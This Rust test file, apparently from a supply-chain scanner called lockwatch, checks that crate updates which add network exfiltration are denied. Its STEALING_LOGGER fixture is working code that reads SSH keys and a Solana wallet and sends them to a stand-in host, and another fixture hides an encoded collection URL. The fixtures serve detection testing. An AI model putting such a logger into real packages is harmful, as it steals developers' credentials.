//! Issue 17.6 end to end: library code that starts reaching out, judged from the old and the
//! new `.crate` of an update (and from the new one alone for an added crate), against the
//! local test registry with real-shaped tarballs.

#![allow(clippy::unwrap_used)] // test helpers: a panic is the failure report

use lockwatch::registry::fake::FakeRegistry;
use lockwatch::testkit::Krate;
use lockwatch_tests::lockgen::{lock, member};
use lockwatch_tests::registry_check::{codes_on, findings, pkg, run_check};

/// `code:level` of the run-time findings (and `unreviewable`) on `krate`.
fn runtime_codes(v: &Value, krate: &str) -> Vec<String> {
    codes_on(v, krate)
        .into_iter()
        .filter(|c| c.starts_with("runtime-") || c.starts_with("unreviewable:"))
        .collect()
}
use serde_json::Value;

/// A release as `cargo publish` packages it, with this library code.
fn release(name: &str, version: &str, lib: &str) -> Krate {
    Krate::new(name, version)
        .package_key("repository", "\"https://github.com/jane/lib\"")
        .package_key("license", "\"MIT\"")
        .file("src/lib.rs", lib)
        .file(
            ".cargo_vcs_info.json",
            "{\n  \"git\": {\n    \"sha1\": \"0123456789abcdef0123456789abcdef01234567\"\n  },\n  \"path_in_vcs\": \"\"\n}",
        )
        .file("Cargo.toml.orig", "[package]\nname = \"x\"\n")
}

/// Reviews `base` -> `head` lock files made of `app` and these packages.
fn review(
    registry: &FakeRegistry,
    base: &[(&str, &str, &str)],
    head: &[(&str, &str, &str)],
) -> Value {
    let scratch = tempfile::tempdir().unwrap();
    let db = scratch.path().join("empty-db");
    std::fs::create_dir_all(db.join("crates")).unwrap();
    let side = |pkgs: &[(&str, &str, &str)]| {
        let names: Vec<&str> = pkgs.iter().map(|p| p.0).collect();
        let mut all = vec![member("app", "0.1.0").deps(&names)];
        all.extend(pkgs.iter().map(|(n, v, s)| pkg(n, v, s, &[])));
        lock(3, &all)
    };
    let db = db.display().to_string();
    run_check(
        &side(base),
        &side(head),
        registry,
        scratch.path(),
        &["--advisory-db", db.as_str()],
    )
}

const PLAIN_LOGGER: &str = r#"
pub fn log(msg: &str) {
    println!("[log] {msg}");
}
"#;

/// Reconstructed from the 2025 `faster_log` / `async_println` crates (and the usual credential
/// stealers): a logging call that also reads a key file and a wallet, and posts them.
const STEALING_LOGGER: &str = r#"
use std::io::Write;
use std::net::TcpStream;

pub fn log(msg: &str) {
    println!("[log] {msg}");
    let _ = flush_remote();
}

fn flush_remote() -> std::io::Result<()> {
    let home = std::env::var("HOME").unwrap_or_default();
    let mut loot = String::new();
    for p in [".ssh/id_rsa", ".config/solana/id.json"] {
        loot.push_str(&std::fs::read_to_string(format!("{home}/{p}")).unwrap_or_default());
    }
    let mut s = TcpStream::connect("logs.example.net:443")?;
    s.write_all(loot.as_bytes())
}
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_update_that_reads_keys_and_posts_them_is_denied() {
    let registry = FakeRegistry::start().await;
    let a = registry.publish(
        "fastlog",
        "1.0.0",
        release("fastlog", "1.0.0", PLAIN_LOGGER).build(),
        vec![],
    );
    let b = registry.publish(
        "fastlog",
        "1.0.1",
        release("fastlog", "1.0.1", STEALING_LOGGER).build(),
        vec![],
    );
    let v = review(
        &registry,
        &[("fastlog", "1.0.0", &a)],
        &[("fastlog", "1.0.1", &b)],
    );
    assert_eq!(
        runtime_codes(&v, "fastlog"),
        vec!["runtime-exfiltration:deny"],
        "{v}"
    );
    let f = findings(&v, "runtime-exfiltration", "fastlog")[0];
    let message = f["message"].as_str().unwrap();
    assert!(
        message.contains("`.ssh/`") && message.contains("network"),
        "{f}"
    );
    let texts: Vec<&str> = f["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["text"].as_str().unwrap())
        .collect();
    assert!(
        texts.iter().any(|t| t.contains("solana/id.json")),
        "{texts:?}"
    );
    assert!(
        texts.iter().any(|t| t.contains("TcpStream::connect")),
        "{texts:?}"
    );
    assert_eq!(v["verdict"], "fail", "{v}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn more_http_in_a_crate_that_already_had_network_is_nothing_new() {
    let registry = FakeRegistry::start().await;
    let old = r#"
pub fn fetch(url: &str) -> Result<String, ureq::Error> {
    Ok(ureq::get(url).call()?.into_string()?)
}
"#;
    let new = r#"
pub fn fetch(url: &str) -> Result<String, ureq::Error> {
    Ok(ureq::get(url).call()?.into_string()?)
}
pub fn post(url: &str, body: &str) -> Result<String, reqwest::Error> {
    reqwest::blocking::Client::new().post(url).body(body.to_owned()).send()?.text()
}
"#;
    let a = registry.publish(
        "webget",
        "0.3.0",
        release("webget", "0.3.0", old).build(),
        vec![],
    );
    let b = registry.publish(
        "webget",
        "0.3.1",
        release("webget", "0.3.1", new).build(),
        vec![],
    );
    let v = review(
        &registry,
        &[("webget", "0.3.0", &a)],
        &[("webget", "0.3.1", &b)],
    );
    assert!(runtime_codes(&v, "webget").is_empty(), "{v}");
    assert_eq!(v["verdict"], "pass", "{v}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_encoded_endpoint_is_denied() {
    let registry = FakeRegistry::start().await;
    // `aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L3Vw` is `https://collect.example.net/up`.
    let new = r#"
const E: &str = "aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L3Vw";
pub fn log(msg: &str) {
    println!("[log] {msg}");
    let _ = E.len();
}
"#;
    let a = registry.publish(
        "qlog",
        "2.1.0",
        release("qlog", "2.1.0", PLAIN_LOGGER).build(),
        vec![],
    );
    let b = registry.publish(
        "qlog",
        "2.1.1",
        release("qlog", "2.1.1", new).build(),
        vec![],
    );
    let v = review(
        &registry,
        &[("qlog", "2.1.0", &a)],
        &[("qlog", "2.1.1", &b)],
    );
    assert_eq!(
        runtime_codes(&v, "qlog"),
        vec!["runtime-exfiltration:deny"],
        "{v}"
    );
    let f = findings(&v, "runtime-exfiltration", "qlog")[0];
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .contains("https://collect.example.net/up"),
        "{f}"
    );
    assert_eq!(v["verdict"], "fail", "{v}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_benign_first_network_use_is_a_warning() {
    let registry = FakeRegistry::start().await;
    let old = "pub fn count(name: &str) -> String { format!(\"{name}:1|c\") }\n";
    let new = r#"
use std::net::UdpSocket;
pub fn count(name: &str) -> String { format!("{name}:1|c") }
pub fn send(name: &str) -> std::io::Result<usize> {
    let sock = UdpSocket::bind("0.0.0.0:0")?;
    sock.send_to(count(name).as_bytes(), "127.0.0.1:8125")
}
"#;
    let a = registry.publish(
        "statsy",
        "0.4.2",
        release("statsy", "0.4.2", old).build(),
        vec![],
    );
    let b = registry.publish(
        "statsy",
        "0.4.3",
        release("statsy", "0.4.3", new).build(),
        vec![],
    );
    let v = review(
        &registry,
        &[("statsy", "0.4.2", &a)],
        &[("statsy", "0.4.3", &b)],
    );
    assert_eq!(
        runtime_codes(&v, "statsy"),
        vec!["runtime-capability:warn"],
        "{v}"
    );
    let f = findings(&v, "runtime-capability", "statsy")[0];
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .ends_with("newly uses: network"),
        "{f}"
    );
    assert_ne!(v["verdict"], "fail", "{v}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn added_crates_are_judged_on_strong_combinations_only() {
    let registry = FakeRegistry::start().await;
    let client = r#"
pub fn get(url: &str) -> Result<String, reqwest::Error> {
    let token = std::env::var("APP_MODE").unwrap_or_default();
    reqwest::blocking::get(format!("{url}?m={token}"))?.text()
}
"#;
    let a = registry.publish(
        "httpish",
        "1.2.0",
        release("httpish", "1.2.0", client).build(),
        vec![],
    );
    let b = registry.publish(
        "logfast",
        "0.1.0",
        release("logfast", "0.1.0", STEALING_LOGGER).build(),
        vec![],
    );
    let v = review(
        &registry,
        &[],
        &[("httpish", "1.2.0", &a), ("logfast", "0.1.0", &b)],
    );
    assert!(runtime_codes(&v, "httpish").is_empty(), "{v}");
    assert_eq!(
        runtime_codes(&v, "logfast"),
        vec!["runtime-exfiltration:deny"],
        "{v}"
    );
}
